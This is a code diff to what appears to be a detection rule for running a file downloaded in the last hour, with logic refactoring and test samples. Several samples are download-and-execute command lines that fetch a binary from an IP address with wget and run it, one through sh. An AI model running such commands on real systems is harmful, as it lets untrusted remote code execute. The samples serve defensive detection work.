@@ -12,30 +12,35 @@ static struct text what_runs(const struct command *command)
     return command->path;
 }
 
-/* Paths are written in several ways, "./x" after a cd: the file's name is what the two have in common. */
+static bool is_of_the_system(struct text path)
+{
+    return text_starts(path, TEXT("/usr/")) || text_starts(path, TEXT("/bin/")) || text_starts(path, TEXT("/sbin/"));
+}
+
+/* Paths are written in several ways, "./x" after a cd: the file's name is what the two have in common. What one line downloads and runs
+ * itself is another detection's. */
 static void judge(struct judging *judging)
 {
     const struct command_line *line = judging->line;
     const struct event *event = judging->event;
+    struct text source, target;
+    bool told = false;
 
-    for (size_t i = 0; i < line->count; i++) {
+    for (size_t i = 0; i < line->count && !told; i++) {
         const struct command *command = &line->commands[i];
-        struct text source, target, run = what_runs(command), name = event_base_name(run);
-        if (command_downloads(command, &source, &target)) {
-            if (target.count)
-                memory_note(judging->memory, judging->rule->id, TEXT("files"), event_base_name(target), 1, event->at_us, REMEMBERED_US);
-            continue;
-        }
+        struct text run = what_runs(command), name = event_base_name(run);
         bool somewhere = run.count > name.count; /* it is named with its folder, so it is no command of the system's */
-        if (!name.count || !somewhere || text_starts(run, TEXT("/usr/")) || text_starts(run, TEXT("/bin/")) || text_starts(run, TEXT("/sbin/")))
-            continue;
-        if (!memory_has(judging->memory, judging->rule->id, TEXT("files"), name, event->at_us + 1, REMEMBERED_US))
+        if (!name.count || !somewhere || is_of_the_system(run) || command_downloads(command, &source, &target) ||
+            !memory_has(judging->memory, judging->rule->id, TEXT("files"), name, event->at_us, REMEMBERED_US))
             continue;
         struct finding *finding = finding_add(judging, name);
         finding_reason(finding, "CommandLine", TEXT("what is run was downloaded within the last hour"), line->text);
         finding_entity(finding, FINDING_FILE, run);
-        return;
+        told = true;
     }
+    for (size_t i = 0; i < line->count; i++)
+        if (command_downloads(&line->commands[i], &source, &target) && target.count)
+            memory_note(judging->memory, judging->rule->id, TEXT("files"), event_base_name(target), 1, event->at_us, REMEMBERED_US);
 }
 
 static const struct rule_sample samples[] = {
@@ -45,6 +50,7 @@ static const struct rule_sample samples[] = {
     {false, "$ wget -O /tmp/catalog.json https://example.org/catalog.json\n$ cat /tmp/catalog.json"},
     {false, "$ wget -O /tmp/tool http://198.51.100.7/tool\n+4000 $ /tmp/tool"},
     {false, "$ /tmp/tool"},
+    {false, "$ sh -c 'wget -O /tmp/x http://198.51.100.7/x; sh /tmp/x'"},
 };
 
 const struct rule rule_backdoor = {
